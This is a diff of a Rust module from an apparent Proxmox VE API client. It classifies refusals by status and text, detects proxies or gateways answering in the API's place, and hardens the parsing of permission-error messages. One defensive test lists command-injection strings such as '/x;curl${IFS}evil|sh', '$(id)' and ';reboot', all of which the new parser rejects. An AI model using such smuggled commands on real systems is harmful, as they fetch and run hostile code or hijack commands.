@@ -2,26 +2,72 @@
 //!
 //! Since libpve-http-server-perl 5.2.0 (PVE 8.4) the message is in the body; before it was only the reason phrase of
 //! the status line, as it still is where pveproxy itself answers (401, 595, 596).
-use super::error::Error;
+use super::cause::{Cause, TokenFault};
+use super::error::{Error, Front};
 use crate::base::text::{clean, shorten};
 use serde_json::Value;
 use std::collections::BTreeMap;
 
 const TEXT_LIMIT: usize = 1000;
 
-/// `reason` is the status line's, when it is not the canonical one; `canonical` what HTTP calls the status.
-pub(super) fn refusal(status: u16, reason: Option<&str>, canonical: &str, body: &str) -> Error {
-    let json: Option<Value> = serde_json::from_str(body).ok();
+/// An answer that is no success, as far as it tells who gave it and why.
+pub(super) struct Said<'a> {
+    pub(super) status: u16,
+    /// The status line's, when it is not the canonical one.
+    pub(super) reason: Option<&'a str>,
+    /// What HTTP calls the status.
+    pub(super) canonical: &'a str,
+    pub(super) body: &'a str,
+    /// Whether it wants a login by HTTP's own means (`WWW-Authenticate`), which Proxmox VE never does.
+    pub(super) wants_login: bool,
+    /// The name in `Server`, cleaned. Proxmox VE calls itself `pve-api-daemon/3.0`; a proxy may put its own name there.
+    pub(super) server: Option<&'a str>,
+    /// Where a redirection leads, cleaned.
+    pub(super) location: Option<&'a str>,
+}
+
+pub(super) fn refusal(said: &Said) -> Error {
+    let json: Option<Value> = serde_json::from_str(said.body).ok();
     let errors = json.as_ref().map(errors_of).unwrap_or_default();
-    let text = text_of(json.as_ref(), reason, canonical, body);
-    match status {
-        401 => Error::Unauthorized { text },
+    let text = text_of(json.as_ref(), said.reason, said.canonical, said.body);
+    if let Some(front) = in_front(said, json.is_some()) {
+        let server = said.server.filter(|s| !s.starts_with(ITSELF)).map(str::to_string);
+        return Error::InFront { status: said.status, front, server, text };
+    }
+    match said.status {
+        401 => Error::Unauthorized { fault: TokenFault::of(&text), text },
         403 => forbidden(text),
         400 if !errors.is_empty() => parameters(errors),
-        429 | 502..=504 | 595..=599 => Error::Busy { status: Some(status), text: format!("{text} ({status})") },
-        // The API itself knows no such answer: what is missing it tells with a 400 or a 500.
-        404 => Error::Answer { text: format!("{text} (404), which Proxmox VE itself never answers") },
-        _ => by_text(status, text),
+        596 if text.contains("certificate") => Error::NodeCertificate { node: None, text },
+        502..=504 | 595..=599 => Error::Busy { status: Some(said.status), text: format!("{text} ({})", said.status) },
+        _ => by_text(said.status, text),
+    }
+}
+
+/// How Proxmox VE's own servers call themselves.
+const ITSELF: &str = "pve-api-daemon";
+
+/// What a reverse proxy, a gateway or a web server in front of Proxmox VE said in its place. Its own answers are JSON or
+/// empty, its 401 always has a reason of its own ("No ticket", "invalid token value!"), and the statuses here are none of
+/// its (pve-http-server, `PVE/APIServer/AnyEvent.pm`).
+fn in_front(said: &Said, json: bool) -> Option<Front> {
+    let page = !json && said.body.trim_start().starts_with('<');
+    let reason = said.reason.is_some_and(|r| !r.trim().is_empty());
+    match said.status {
+        407 | 511 => Some(Front::Login),
+        401 if said.wants_login || page || (!reason && !json) => Some(Front::Login),
+        413 => Some(Front::BodyLimit),
+        429 => Some(Front::RateLimit),
+        404 | 405 | 410 | 421 if !json => Some(Front::OtherPlace),
+        300..=399 => {
+            let to = said.location.unwrap_or_default().to_ascii_lowercase();
+            let login = ["login", "auth", "sso", "signin"].iter().any(|word| to.contains(word));
+            Some(if login { Front::Login } else { Front::Redirect })
+        }
+        403 if page => Some(Front::Denied),
+        502..=504 if page => Some(Front::NoBackend),
+        400..=599 if page => Some(Front::OtherPlace),
+        _ => None,
     }
 }
 
@@ -32,16 +78,13 @@ pub(super) fn forbidden(text: String) -> Error {
 }
 
 fn by_text(status: u16, text: String) -> Error {
-    if text.contains("already exists") {
-        Error::Exists { text }
-    } else if names_a_lock(&text) {
-        Error::Locked { text }
-    } else if text.contains("no quorum") {
-        Error::Busy { status: Some(status), text }
-    } else if names_nothing_there(&text) {
-        Error::NotFound { text }
-    } else {
-        Error::Server { status, text }
+    match Cause::of(&text) {
+        Cause::Exists => Error::Exists { text },
+        Cause::Lock => Error::Locked { text },
+        Cause::NoQuorum => Error::Busy { status: Some(status), text },
+        Cause::NotThere => Error::NotFound { text },
+        Cause::NoSuchNode => Error::NoSuchNode { text },
+        cause => Error::Server { status, text, cause },
     }
 }
 
@@ -58,27 +101,6 @@ fn parameters(errors: BTreeMap<String, String>) -> Error {
         }
     }
     Error::Parameters { errors }
-}
-
-/// True for the texts of flock, cfs-lock and `lock:` in a VM's configuration, in answers and in task ends alike.
-pub(super) fn names_a_lock(text: &str) -> bool {
-    ["VM is locked", "CT is locked", "can't lock file", "cfs-lock", "got timeout", "got lock request timeout"]
-        .iter()
-        .any(|t| text.contains(t))
-}
-
-fn names_nothing_there(text: &str) -> bool {
-    [
-        "does not exist",
-        "unable to find configuration file",
-        "no such user",
-        "no such token",
-        "no such role",
-        "no such cluster node",
-        "hostname lookup '",
-    ]
-    .iter()
-    .any(|t| text.contains(t))
 }
 
 fn errors_of(json: &Value) -> BTreeMap<String, String> {
@@ -100,14 +122,17 @@ fn text_of(json: Option<&Value>, reason: Option<&str>, canonical: &str, body: &s
 }
 
 /// `Permission check failed (/vms/101, VM.Config.Disk)` names the object and the privilege; other forms name neither.
+/// Whoever answers chooses these words, and they end in a command to paste: what is no path and no privilege is neither.
 fn missing_right(text: &str) -> (Option<String>, Option<String>) {
     let inside = text.split_once("Permission check failed (").and_then(|(_, rest)| rest.rsplit_once(')'));
-    match inside.and_then(|(inside, _)| inside.split_once(", ")) {
-        Some((path, privilege)) if path.starts_with('/') => {
-            let privilege = privilege.split_whitespace().next().unwrap_or_default();
-            (Some(path.to_string()), (!privilege.is_empty()).then(|| privilege.to_string()))
-        }
-        _ => (None, None),
+    let Some((path, privilege)) = inside.and_then(|(inside, _)| inside.split_once(", ")) else { return (None, None) };
+    let is_path = path.starts_with('/') && path.chars().all(|c| c.is_ascii_alphanumeric() || "/_.:-".contains(c));
+    let privilege = privilege.split_whitespace().next().unwrap_or_default();
+    let of_words = |p: &str| p.contains('.') && p.chars().all(|c| c.is_ascii_alphabetic() || c == '.');
+    let is_privilege = !privilege.is_empty() && privilege.split('|').all(of_words);
+    match is_path && is_privilege {
+        true => (Some(path.to_string()), Some(privilege.to_string())),
+        false => (None, None),
     }
 }
 
@@ -116,14 +141,18 @@ mod tests {
     use super::*;
     use proptest::prelude::*;
 
+    fn said<'a>(status: u16, reason: Option<&'a str>, canonical: &'a str, body: &'a str) -> Said<'a> {
+        Said { status, reason, canonical, body, wants_login: false, server: None, location: None }
+    }
+
     fn of(status: u16, body: &str) -> Error {
-        refusal(status, Some("the reason"), "Canonical", body)
+        refusal(&said(status, Some("the reason"), "Canonical", body))
     }
 
     #[test]
     fn the_text_comes_from_the_body_then_the_status_line_then_http() {
-        let text = |reason, body| match refusal(500, reason, "Internal Server Error", body) {
-            Error::Server { text, .. } => text,
+        let text = |reason, body| match refusal(&said(500, reason, "Internal Server Error", body)) {
+            Error::Server { text, .. } | Error::InFront { text, .. } => text,
             other => panic!("{other:?}"),
         };
         assert_eq!(
@@ -153,7 +182,7 @@ mod tests {
 
     #[test]
     fn what_proxmox_says_decides_the_kind() {
-        let said = |text: &str| refusal(500, Some(text), "", "{\"data\":null}");
+        let said = |text: &str| refusal(&said(500, Some(text), "", "{\"data\":null}"));
         assert!(matches!(
             said("Configuration file 'nodes/a/qemu-server/9.conf' does not exist"),
             Error::NotFound { .. }
@@ -166,11 +195,57 @@ mod tests {
         assert!(matches!(said("VM 101 is running - destroy failed"), Error::Server { status: 500, .. }));
     }
 
+    /// reports.md B05, B07, and what else stands between a client and pveproxy.
     #[test]
     fn answers_of_something_in_front_of_the_api_are_told_from_its_own() {
-        assert!(matches!(of(429, ""), Error::Busy { status: Some(429), .. }));
-        assert!(matches!(of(404, "<html>no such page</html>"), Error::Answer { .. }));
+        let page = "<html><body>x</body></html>";
+        let front = |said: Said| match refusal(&said) {
+            Error::InFront { front, server, .. } => (front, server),
+            other => panic!("{other:?}"),
+        };
+        let nginx = |status, body| Said { server: Some("nginx"), ..said(status, None, "Canonical", body) };
+        let named = Some("nginx".to_string());
+        assert_eq!(front(Said { wants_login: true, ..nginx(401, "") }), (Front::Login, named.clone()));
+        assert_eq!(front(nginx(401, page)), (Front::Login, named.clone()));
+        assert_eq!(front(nginx(401, "")), (Front::Login, named.clone()));
+        assert_eq!(front(nginx(413, page)), (Front::BodyLimit, named.clone()));
+        assert_eq!(front(nginx(403, page)), (Front::Denied, named.clone()));
+        assert_eq!(front(nginx(502, page)), (Front::NoBackend, named.clone()));
+        assert_eq!(front(nginx(404, page)), (Front::OtherPlace, named));
+        assert_eq!(front(said(429, None, "", "")).0, Front::RateLimit);
+        let to = |location| Said { location: Some(location), ..said(302, None, "Found", "") };
+        assert_eq!(front(to("https://sso.example/login?next=x")).0, Front::Login);
+        assert_eq!(front(to("https://pve.example/")).0, Front::Redirect);
+        let own = Said { server: Some("pve-api-daemon/3.0"), ..said(401, Some("No ticket"), "Unauthorized", "") };
+        assert_eq!(refusal(&own), Error::Unauthorized { text: "No ticket".into(), fault: TokenFault::Unknown });
         assert!(matches!(of(595, ""), Error::Busy { status: Some(595), text } if text == "the reason (595)"));
+        assert!(matches!(of(503, ""), Error::Busy { status: Some(503), .. }));
+    }
+
+    /// reports.md B09
+    #[test]
+    fn a_node_whose_certificate_another_node_does_not_believe_is_no_slow_node() {
+        let ssl = "error:0A000086:SSL routines::certificate verify failed";
+        let error = refusal(&said(596, Some(ssl), "", ""));
+        assert!(matches!(&error, Error::NodeCertificate { text, .. } if text == ssl), "{error:?}");
+        assert!(!error.is_transient());
+        assert!(refusal(&said(596, Some("Connection timed out"), "", "")).is_transient());
+    }
+
+    /// harm.md S13: the text of a refusal must not become a command.
+    #[test]
+    fn a_path_or_a_privilege_that_is_none_is_not_taken_for_one() {
+        for (path, privilege) in [
+            ("/x;curl${IFS}evil|sh", "VM.Audit"),
+            ("/vms/1", "VM.Audit;reboot"),
+            ("/vms/$(id)", "VM.Audit"),
+            ("/vms/1", "`id`"),
+            ("/vms/1", "VM.Audit|"),
+            ("/vms/1 /vms/2", "VM.Audit"),
+            ("/vms/1", "--help"),
+        ] {
+            assert_eq!(missing_right(&format!("Permission check failed ({path}, {privilege})")), (None, None));
+        }
     }
 
     #[test]
@@ -187,7 +262,7 @@ mod tests {
     proptest! {
         #[test]
         fn no_answer_is_too_strange(status in 300u16..1000, reason in ".*", body in ".*") {
-            let error = refusal(status, Some(&reason), "x", &body);
+            let error = refusal(&said(status, Some(&reason), "x", &body));
             prop_assert!(!error.to_string().chars().any(char::is_control));
         }
 
